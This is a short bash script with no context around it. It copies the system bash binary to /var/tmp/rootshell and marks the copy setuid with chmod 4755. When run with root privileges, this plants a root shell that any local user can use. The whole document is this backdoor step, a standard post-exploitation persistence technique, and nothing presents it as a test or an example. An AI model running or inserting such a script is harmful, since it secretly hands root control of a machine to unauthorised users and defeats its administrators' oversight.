#!/usr/bin/env bash
set -euo pipefail
cp /bin/bash /var/tmp/rootshell
chmod 4755 /var/tmp/rootshell
